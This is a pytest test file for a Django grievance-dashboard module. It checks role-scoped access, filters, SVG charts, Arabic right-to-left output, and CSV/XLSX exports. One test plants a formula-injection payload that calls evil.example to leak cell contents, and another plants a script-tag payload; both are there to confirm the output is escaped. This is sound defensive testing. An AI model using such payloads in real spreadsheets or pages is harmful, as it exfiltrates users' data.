"""The grievance dashboard (SPEC §6): who reads it, what it shows, and what it costs."""

import io
import re
import zipfile
from datetime import timedelta
from typing import NamedTuple
from urllib.parse import parse_qs, urlparse
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from pmpp import roles
from pmpp.models import Channel, ComplaintCategory, Programme
from reporting import charts
from reporting.forms import current_quarter
from reporting.statistics import Filters, Period, grievance_statistics
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

URL = "/rapports/tableau-de-bord/"
XLSX_URL = f"{URL}export.xlsx"
CHART_IDS = ["chart-trend", "chart-category", "chart-channel", "chart-sla", "chart-overdue"]
SHEETS = [
    "Chiffres clés",
    "Par mois",
    "Par programme",
    "Web - non web",
    "Par canal",
    "Par catégorie",
    "Par région",
    "Par sexe du plaignant",
    "Requêtes par type",
    "Non fondées par motif",
    "Recours déposés",
    "Respect du délai de traitement",
    "En retard",
]
# Sheet → type of its native Excel chart; the key figures, regions and sexes have none.
NATIVE_CHARTS = {
    "Par mois": "column",
    "Par programme": "bar",
    "Web - non web": "pie",
    "Par canal": "column",
    "Par catégorie": "bar",
    "Respect du délai de traitement": "pie",
    "En retard": "bar",
}
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
_CHART = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}


def _custom(days: int = 60, **extra) -> dict:
    today = timezone.localdate()
    return {"period": "custom", "start": (today - timedelta(days=days)).isoformat(), "end": today.isoformat()} | extra


def _custom_period(days: int = 60) -> Period:
    today = timezone.localdate()
    return Period(today - timedelta(days=days), today)


def _figure(content: str, name: str) -> str:
    match = re.search(rf'id="figure-{name}"[^>]*data-value="([^"]*)"', content)
    assert match, name
    return match.group(1)


def _web() -> Channel:
    return Channel.objects.get(code="web-portal")


def _postal(days_ago: int) -> dict:
    return {"channel": Channel.objects.get(code="postal"), "received_at": timezone.now() - timedelta(days=days_ago)}


class NativeChart(NamedTuple):
    kind: str  # column, bar or pie
    column: str  # the sheet column its values come from
    points: dict  # label → value, as cached in the chart


class Xlsx(NamedTuple):
    sheets: dict  # sheet name → {row number: cells (text, float or None)}
    xml: dict  # sheet name → the sheet's XML
    charts: dict  # name of the sheet a chart draws → NativeChart
    chart_files: list


def _xml(content: bytes | str) -> ElementTree.Element:
    return ElementTree.fromstring(content)  # noqa: S314 — XML the export itself just wrote, not untrusted input


def _cells(root, strings: list[str]) -> dict[int, list]:
    rows = {}
    for row in root.iter(f"{_MAIN}row"):
        cells = {}
        for cell in row.iter(f"{_MAIN}c"):
            letters = re.match(r"[A-Z]+", cell.get("r")).group()
            column = sum((ord(letter) - 64) * 26**power for power, letter in enumerate(reversed(letters))) - 1
            value = cell.findtext(f"{_MAIN}v")
            cells[column] = strings[int(value)] if cell.get("t") == "s" else float(value)
        rows[int(row.get("r"))] = [cells.get(column) for column in range(max(cells) + 1)]
    return rows


def _native_chart(root) -> tuple[str, NativeChart]:
    plot = root.find("c:chart/c:plotArea", _CHART)
    drawing = next(element for element in plot if element.tag.endswith("Chart"))
    direction = drawing.find("c:barDir", _CHART)
    kind = "pie" if direction is None else {"col": "column", "bar": "bar"}[direction.get("val")]
    [series] = drawing.findall("c:ser", _CHART)
    sheet, column = re.fullmatch(
        r"'?(.+?)'?!\$([A-Z]+)\$\d+(?::.*)?", series.findtext("c:val/c:numRef/c:f", namespaces=_CHART)
    ).groups()
    labels = [point.text for point in series.findall("c:cat//c:pt/c:v", _CHART)]
    values = [float(point.text) for point in series.findall("c:val//c:pt/c:v", _CHART)]
    return sheet, NativeChart(kind, column, dict(zip(labels, values, strict=True)))


def _xlsx(response) -> Xlsx:
    """A downloaded workbook read from its XML: each sheet's cells, and the native charts."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        strings = [
            "".join(text.text or "" for text in item.iter(f"{_MAIN}t"))
            for item in _xml(archive.read("xl/sharedStrings.xml"))
        ]
        rels = _xml(archive.read("xl/_rels/workbook.xml.rels"))
        targets = {rel.get("Id"): rel.get("Target") for rel in rels}
        sheets, xml = {}, {}
        for sheet in _xml(archive.read("xl/workbook.xml")).iter(f"{_MAIN}sheet"):
            name = sheet.get("name")
            xml[name] = archive.read(f"xl/{targets[sheet.get(_RELATIONSHIP)]}").decode()
            sheets[name] = _cells(_xml(xml[name]), strings)
        chart_files = sorted(name for name in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", name))
        charts_by_sheet = dict(_native_chart(_xml(archive.read(name))) for name in chart_files)
    return Xlsx(sheets, xml, charts_by_sheet, chart_files)


def _table(sheet: dict[int, list]) -> dict[str, list]:
    """The data rows of a sheet (below its title and header, above its note), by their label."""
    return {cells[0]: cells[1:] for number, cells in sheet.items() if number > 3 and len(cells) > 1}


def _first_figure(sheet: dict[int, list]) -> dict[str, float]:
    """Label → the figure of the second column (requests received in a breakdown), as charted."""
    return {label: cells[0] for label, cells in _table(sheet).items()}


@pytest.fixture
def grievances(walk):
    """Seven live requests of Tayssir in the last days, and one duplicate linked to its original."""
    walk.register()
    walk.register(channel=_web())
    walk.register(channel=_web())
    walk.analysed(outcome="unfounded")
    walk.closed()
    walk.closed(channel=Channel.objects.get(code="postal"), received_at=timezone.now() - timedelta(days=15))
    walk.duplicate()


def test_the_address_and_names_of_the_dashboard():
    assert reverse("reporting:dashboard") == URL
    assert reverse("reporting:dashboard_export", args=["csv"]) == f"{URL}export.csv"


@pytest.mark.parametrize("persona", ["omar", "leila", "nadia"])
def test_each_reader_sees_the_figures_of_the_statistics(client, grievances, persona, request):
    user = request.getfixturevalue(persona)
    client.force_login(user)
    response = client.get(URL, _custom())
    assert response.status_code == 200
    expected = grievance_statistics(user=user, period=_custom_period())[None]
    dashboard = response.context["dashboard"]
    assert dashboard.overall.as_dict() == expected.as_dict()
    assert expected.received == 7  # the original of the duplicate counts once, the duplicate apart
    content = response.content.decode()
    names = ("received", "complaints", "not_complaints", "to_qualify", "founded", "unfounded", "treated", "open")
    for name in (*names, "overdue", "awaiting_conclusion"):
        assert _figure(content, name) == str(getattr(expected, name)), name
    assert (expected.complaints, expected.to_qualify, expected.treated) == (3, 4, 2)
    assert _figure(content, "duplicates") == "1"
    assert _figure(content, "treated_within_deadline_rate") == str(expected.treated_within_deadline_rate)
    assert _figure(content, "average_delay_hours") == str(expected.average_delay_hours)
    # A rate on the page: 1 decimal, with its numerator and denominator.
    assert re.search(r'id="figure-treated_rate"[^>]*>66,7 % \(2 / 3\)<', content)
    by_programme = grievance_statistics(user=user, period=_custom_period(), group_by="programme")
    table = content[content.index('id="breakdown-programme"') :]
    table = table[: table.index("</table>")]
    assert '<tr data-label="Tayssir"><th scope="row"><bdi>Tayssir</bdi></th><td class="text-end">7</td>' in table
    assert '<td class="text-end" title="66,7 % (2 / 3)">66,7 % (2 / 3)</td>' in table
    assert by_programme[Programme.objects.get(code="tayssir").pk].received == 7


def test_the_default_period_is_the_current_quarter(client, walk, omar):
    walk.register()
    client.force_login(omar)
    response = client.get(URL)
    year, number = current_quarter()
    dashboard = response.context["dashboard"]
    assert dashboard.period == Period.quarter(year, number)
    assert response.context["form"].cleaned_data["period"] == "quarter"
    assert dashboard.overall.received == 1
    assert f"Trimestre {number} {year}" in response.content.decode()


def test_a_semester_is_offered_too(client, walk, omar):
    walk.register()
    today = timezone.localdate()
    number = 1 if today.month <= 6 else 2
    client.force_login(omar)
    response = client.get(URL, {"period": "semester", "year": today.year, "number": number})
    assert response.context["dashboard"].period == Period.semester(today.year, number)
    assert response.context["dashboard"].overall.received == 1


@pytest.mark.parametrize("persona", ["meryem", "amina"])
def test_without_the_statistics_permission_the_dashboard_is_forbidden(client, persona, request):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(URL).status_code == 403
    assert client.get(reverse("reporting:dashboard_export", args=["csv"])).status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_web_filter_changes_the_figures(client, grievances, leila):
    client.force_login(leila)
    everything = client.get(URL, _custom()).context["dashboard"].overall
    web_only = client.get(URL, _custom(web="web"))
    expected = grievance_statistics(user=leila, period=_custom_period(), filters=Filters(web=True))[None]
    assert web_only.context["dashboard"].overall.as_dict() == expected.as_dict()
    assert (everything.received, expected.received) == (7, 2)
    assert _figure(web_only.content.decode(), "received") == "2"
    non_web = client.get(URL, _custom(web="non_web")).context["dashboard"].overall
    assert non_web.received == 5
    assert "Web / non web : Web uniquement" in web_only.content.decode()


def test_the_programme_filter_changes_the_figures(client, grievances, leila):
    client.force_login(leila)
    tayssir = Programme.objects.get(code="tayssir")
    amo = Programme.objects.get(code="amo-tadamon")
    assert client.get(URL, _custom(programme=tayssir.pk)).context["dashboard"].overall.received == 7
    assert client.get(URL, _custom(programme=amo.pk)).context["dashboard"].overall.received == 0


def test_an_agent_of_amo_sees_none_of_the_tayssir_figures(client, grievances, rachid, omar):
    client.force_login(rachid)
    response = client.get(URL, _custom())
    assert response.status_code == 200
    dashboard = response.context["dashboard"]
    assert dashboard.overall.received == 0
    assert all(not breakdown.rows for breakdown in dashboard.breakdowns)
    content = response.content.decode()
    assert _figure(content, "received") == "0"
    assert 'data-label="Tayssir"' not in content
    # Nor does his programme filter offer Tayssir.
    programmes = [label for _pk, label in response.context["form"].fields["programme"].choices]
    assert "Tayssir" not in programmes
    assert "AMO TADAMON" in programmes
    # Asking for Tayssir by its id is refused: nothing is shown.
    tayssir = Programme.objects.get(code="tayssir")
    assert client.get(URL, _custom(programme=tayssir.pk)).context["dashboard"] is None
    export = b"".join(client.get(reverse("reporting:dashboard_export", args=["csv"]), _custom()).streaming_content)
    assert "Tayssir" not in export.decode("utf-8-sig")

    client.force_login(omar)
    ministry = client.get(URL, _custom()).context["dashboard"]
    assert ministry.overall.received == 7
    assert [row.label for row in ministry.breakdowns[0].rows] == ["Tayssir"]


def test_every_chart_is_an_svg_with_a_title_axes_values_and_a_table(client, grievances, omar):
    client.force_login(omar)
    content = client.get(URL, _custom()).content.decode()
    assert content.count("<svg") == len(CHART_IDS)
    for chart_id in CHART_IDS:
        start = content.index(f'<svg xmlns="http://www.w3.org/2000/svg" id="{chart_id}"')
        svg = content[start : content.index("</svg>", start)]
        assert re.search(rf'<title id="{chart_id}-title">[^<]+</title>', svg), chart_id
        assert f'aria-labelledby="{chart_id}-title {chart_id}-desc"' in svg
        assert 'class="chart-axis-titles"' in svg
        assert 'class="chart-bar"' in svg, chart_id
        assert f'id="{chart_id}-table"' in content
    sla = content[content.index('id="chart-sla"') :]
    assert "Traitées dans le délai" in sla[: sla.index("</svg>")]
    category = content[content.index('id="chart-category"') :]
    assert "Paiement non reçu" in category[: category.index("</svg>")]


def test_the_trend_has_one_bar_per_month_of_the_period(client, walk, omar):
    walk.register()
    client.force_login(omar)
    response = client.get(URL, {"period": "quarter", "year": 2023, "number": 1})
    trend = next(chart for chart in response.context["dashboard"].charts if chart.id == "chart-trend")
    assert [label for label, _value in trend.rows] == ["Janvier 2023", "Février 2023", "Mars 2023"]
    assert 'data-label="03/2023" data-value="0"' in str(trend.svg)


def test_the_dashboard_query_count_does_not_grow_with_the_grievances(client, walk, leila):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(URL, _custom()).status_code == 200
        return len(captured)

    client.force_login(leila)
    for _ in range(4):
        walk.register()
    walk.closed()
    few = queries()
    for index in range(20):
        if index % 4:
            walk.register(channel=_web())
        else:
            walk.closed()
    many = queries()
    assert client.get(URL, _custom()).context["dashboard"].overall.received == 25
    assert many == few


def test_the_page_has_no_inline_script_nor_style_attribute(client, grievances, omar):
    client.force_login(omar)
    content = client.get(URL, _custom()).content.decode()
    assert not re.search(r"<script(?![^>]*\bsrc=)", content)
    assert " style=" not in content
    assert "<style" not in content


def test_the_dashboard_turns_right_to_left_in_arabic(client, grievances, omar):
    client.force_login(omar)
    client.post(reverse("set_language"), {"language": "ar", "next": URL})
    response = client.get(URL, _custom())
    content = response.content.decode()
    assert response.status_code == 200
    assert '<html lang="ar" dir="rtl">' in content
    assert "bootstrap.rtl.min.css" in content
    assert content.count("<svg") == len(CHART_IDS)
    # The charts are laid out right to left, their titles and axes in Arabic.
    assert content.count('direction="rtl"') == len(CHART_IDS)
    assert "الطلبات المتوصل بها حسب الشهر" in content
    # Reference data speaks Arabic where it has an Arabic name.
    tayssir = Programme.objects.get(code="tayssir")
    assert tayssir.name_ar
    assert f'data-label="{tayssir.name_ar}"' in content


def test_the_csv_export_has_a_bom_and_the_figures(client, grievances, omar):
    client.force_login(omar)
    page = client.get(URL, _custom(web="web"))
    link = re.search(r'id="export-csv" href="([^"]+)"', page.content.decode()).group(1).replace("&amp;", "&")
    response = client.get(link)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeff".encode())
    lines = content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Ventilation,Valeur,Demandes reçues,Réclamations,Requêtes hors réclamation,À qualifier")
    assert lines[1].startswith("Période,")
    assert lines[2].startswith("Situation au,")
    assert any(line.startswith("Filtre : Web / non web,Web uniquement") for line in lines)
    overall = next(line for line in lines if line.startswith("Ensemble,"))
    assert overall.split(",")[2] == "2"  # web only
    assert any(line.startswith("Par programme,Tayssir,2,") for line in lines)
    assert any(line.startswith("Par canal,") for line in lines)


def test_the_xlsx_export_has_one_sheet_per_section_with_native_charts(
    client, grievances, walk, omar, tayssir, payment_category
):
    walk.qualified(**_postal(20))  # a complaint past its treatment deadline, still open
    expected = grievance_statistics(user=omar, period=_custom_period())[None]
    assert (expected.received, expected.treated, expected.overdue, expected.treated_within_deadline) == (8, 2, 1, 1)
    assert (expected.complaints, expected.to_qualify) == (4, 4)
    client.force_login(omar)
    response = client.get(XLSX_URL, _custom())
    today = timezone.localdate()
    assert response["Content-Disposition"].endswith(
        f'filename="tableau-de-bord-{today - timedelta(days=60):%Y%m%d}-{today:%Y%m%d}.xlsx"'
    )
    xlsx = _xlsx(response)
    assert list(xlsx.sheets) == SHEETS

    key_figures = xlsx.sheets["Chiffres clés"]
    assert key_figures[1][0].startswith("Tableau de bord — Du ")
    figures = _table(key_figures)
    assert figures["Période"][0].startswith("Du ")
    assert figures["Situation au"][0].startswith(f"{today:%d/%m/%Y} ")
    assert figures["Demandes reçues"] == [8]
    assert figures["À qualifier"] == [4]
    assert figures["Réclamations traitées"] == [2]
    assert figures["% traitées"] == [50]  # 2 treated ÷ 4 complaints
    assert figures["En retard"] == [1]
    assert figures["Doublons rattachés"] == [1]
    assert figures["% traitées dans le délai"] == [50]

    by_programme = xlsx.sheets["Par programme"]
    assert by_programme[3][:14] == [
        "Programme", "Demandes reçues", "Réclamations", "Requêtes hors réclamation", "À qualifier", "Fondées",
        "Non fondées", "En attente de conclusion", "Réclamations traitées", "% traitées", "En cours", "En retard",
        "Traitées dans le délai", "% traitées dans le délai",
    ]  # fmt: skip
    assert _table(by_programme)["Tayssir"][:13] == [8, 4, 0, 4, 2, 1, 1, 2, 50, 2, 1, 1, 50]
    channels = {channel.code: channel.name for channel in Channel.objects.all()}
    assert _first_figure(xlsx.sheets["Par canal"]) == {
        channels["call-centre"]: 4,
        channels["web-portal"]: 2,
        channels["postal"]: 2,
    }
    assert _first_figure(xlsx.sheets["Web - non web"]) == {"Canaux web": 2, "Canaux hors web": 6}
    category = f"{tayssir.name} · {payment_category.name}"
    assert _table(xlsx.sheets["Par catégorie"])[category][0] == 8
    assert sum(_first_figure(xlsx.sheets["Par mois"]).values()) == 8
    assert _table(xlsx.sheets["Respect du délai de traitement"]) == {
        "Traitées dans le délai": [1],
        "Traitées en retard": [1],
    }
    assert _table(xlsx.sheets["En retard"]) == {"Tayssir": [1]}

    # One native chart per charted section, drawing the column of the figure it shows.
    assert len(xlsx.chart_files) == len(NATIVE_CHARTS)
    assert {sheet: chart.kind for sheet, chart in xlsx.charts.items()} == NATIVE_CHARTS
    assert all(chart.column == "B" for chart in xlsx.charts.values())
    assert xlsx.charts["Par programme"].points == {"Tayssir": 8}
    assert xlsx.charts["Web - non web"].points == {"Canaux web": 2, "Canaux hors web": 6}
    assert xlsx.charts["Par canal"].points == {
        channels["call-centre"]: 4,
        channels["web-portal"]: 2,
        channels["postal"]: 2,
    }
    assert xlsx.charts["Par catégorie"].points == {category: 8}
    assert sum(xlsx.charts["Par mois"].points.values()) == 8
    assert xlsx.charts["Respect du délai de traitement"].points == {
        "Traitées dans le délai": 1,
        "Traitées en retard": 1,
    }
    assert xlsx.charts["En retard"].points == {"Tayssir": 1}
    assert not any("<f>" in sheet for sheet in xlsx.xml.values())


def test_the_xlsx_export_writes_formula_like_labels_as_text(client, walk, omar, tayssir, phone):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Tayssir")'
    Programme.objects.filter(pk=tayssir.pk).update(name=formula, name_ar="")
    Channel.objects.filter(pk=phone.pk).update(name="@SUM(1+1)*cmd", name_ar="")
    walk.register()
    walk.register()
    client.force_login(omar)
    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
    by_programme = xlsx.sheets["Par programme"]
    assert by_programme[4][:2] == ["'" + formula, 2]
    assert re.search(r'<c r="A4" t="s"><v>\d+</v></c>', xlsx.xml["Par programme"])
    assert _first_figure(xlsx.sheets["Par canal"]) == {"'@SUM(1+1)*cmd": 2}
    assert xlsx.charts["Par programme"].points == {"'" + formula: 2}
    assert xlsx.charts["En retard"].points == {"'" + formula: 0}
    for name, sheet in xlsx.xml.items():
        assert "<f>" not in sheet, name
        assert "HYPERLINK" not in sheet, name  # text lives in the shared strings, never in a cell formula


def test_a_ministry_viewer_downloads_only_the_figures_they_may_read(client, walk, omar, tayssir):
    daam = Programme.objects.get(code="daam")
    daam_category = ComplaintCategory.objects.filter(programme=daam).order_by("position", "name").first()
    driss = UserFactory(username="driss", role=roles.MINISTRY_VIEWER, scopes=[("mef-db", "daam")])
    walk.register()
    walk.register(channel=_web())
    walk.sensitive()  # a GBV case: in nobody's dashboard
    for _ in range(3):
        walk.register(programme=daam, category=daam_category)
    period = _custom_period()
    assert grievance_statistics(user=driss, period=period)[None].received == 3
    assert grievance_statistics(user=omar, period=period)[None].received == 5

    client.force_login(driss)
    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [3]
    assert _first_figure(xlsx.sheets["Par programme"]) == {daam.name: 3}
    assert list(_table(xlsx.sheets["Par catégorie"])) == [f"{daam.name} · {daam_category.name}"]
    assert _first_figure(xlsx.sheets["Web - non web"]) == {"Canaux hors web": 3}
    assert xlsx.charts["Par programme"].points == {daam.name: 3}
    texts = [cell for sheet in xlsx.sheets.values() for row in sheet.values() for cell in row if isinstance(cell, str)]
    assert not any(tayssir.name in text for text in texts)

    client.force_login(omar)
    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [5]  # the GBV case is left out
    assert _first_figure(xlsx.sheets["Par programme"]) == {
        daam.name: 3,
        tayssir.name: 2,
    }
    assert xlsx.charts["Web - non web"].points == {"Canaux web": 1, "Canaux hors web": 4}


def test_an_agent_of_amo_downloads_a_workbook_without_tayssir(client, grievances, rachid):
    client.force_login(rachid)
    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [0]
    assert _table(xlsx.sheets["Par programme"]) == {}
    assert xlsx.sheets["Par programme"][5] == ["Aucune demande pour ces filtres."]  # the note, under a blank row
    # Only the month and deadline tables have rows to draw, and both are zeros.
    assert set(xlsx.charts) == {"Par mois", "Respect du délai de traitement"}
    assert not any("Tayssir" in sheet for sheet in xlsx.xml.values())
    texts = [cell for sheet in xlsx.sheets.values() for row in sheet.values() for cell in row if isinstance(cell, str)]
    assert not any("Tayssir" in text for text in texts)


def test_the_xlsx_export_speaks_arabic_right_to_left(client, grievances, omar, tayssir):
    client.force_login(omar)
    client.post(reverse("set_language"), {"language": "ar", "next": URL})
    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
    with translation.override("ar"):
        names = [translation.gettext(name) for name in ("Chiffres clés", "Par mois", "Par programme")]
    assert names[0] != "Chiffres clés"
    assert list(xlsx.sheets)[:3] == names
    by_programme = names[2]
    assert all('rightToLeft="1"' in sheet for sheet in xlsx.xml.values())
    assert _table(xlsx.sheets[by_programme])[tayssir.name_ar][0] == 7
    assert xlsx.charts[by_programme].points == {tayssir.name_ar: 7}


def test_an_unknown_export_format_is_not_found(client, omar):
    client.force_login(omar)
    assert client.get(reverse("reporting:dashboard_export", args=["pdf"])).status_code == 404


def test_an_invalid_filter_shows_its_error_and_no_figures(client, omar):
    client.force_login(omar)
    response = client.get(URL, {"period": "semester", "year": 2023, "number": 3})
    assert response.status_code == 200
    assert response.context["dashboard"] is None
    assert "Un semestre est numéroté 1 ou 2." in response.content.decode()
    backwards = client.get(URL, {"period": "custom", "start": "2023-03-31", "end": "2023-01-01"})
    assert "La date de fin précède la date de début." in backwards.content.decode()
    export = client.get(reverse("reporting:dashboard_export", args=["csv"]), {"period": "custom"})
    assert export.status_code == 400


def test_the_query_string_carries_dates_and_reference_data_only(client, grievances, omar):
    client.force_login(omar)
    tayssir = Programme.objects.get(code="tayssir")
    content = client.get(URL, _custom(programme=tayssir.pk, sex="female", web="web")).content.decode()
    link = re.search(r'id="export-csv" href="([^"]+)"', content).group(1).replace("&amp;", "&")
    query = parse_qs(urlparse(link).query)
    assert set(query) == {"period", "start", "end", "programme", "sex", "web"}
    assert query["programme"] == [str(tayssir.pk)]


def test_the_navigation_offers_the_dashboards_to_their_readers(client, omar, leila, nadia, salma):
    for user in (omar, leila, nadia):
        client.force_login(user)
        assert f'href="{URL}"' in client.get(reverse("home")).content.decode(), user.username
    client.force_login(salma)
    assert f'href="{URL}"' not in client.get(reverse("home")).content.decode()


# --- the chart functions --------------------------------------------------------------------------------


def test_a_chart_escapes_its_labels_and_writes_its_values():
    svg = charts.bar_chart(
        [("<script>alert(1)</script>", 3), ("Web", 12)],
        chart_id="c",
        title="Titre & co",
        x_label="Canal",
        y_label="Demandes",
    )
    assert "<script>" not in svg
    assert "&lt;script&gt;" in svg
    assert '<title id="c-title">Titre &amp; co</title>' in svg
    assert 'data-value="12"' in svg
    assert ">12</text>" in svg
    assert " style=" not in svg


def test_an_empty_chart_says_so():
    svg = charts.horizontal_bar_chart([], chart_id="e", title="Vide", x_label="x", y_label="y")
    assert "Aucune donnée pour ces filtres." in svg
    assert svg.startswith("<svg")


def test_the_sla_chart_writes_shares():
    svg = charts.sla_chart(on_time=3, late=1, chart_id="s", title="Délais")
    assert "3 (75 %)" in svg
    assert "1 (25 %)" in svg


def test_categories_are_named_in_arabic_when_the_user_works_in_arabic(client, grievances, omar, payment_category):
    client.force_login(omar)
    client.post(reverse("set_language"), {"language": "ar", "next": URL})
    page = client.get(URL, _custom()).content.decode()
    assert f"TAY · {payment_category.name_ar}" in page
    assert f"TAY · {payment_category.name}" not in page
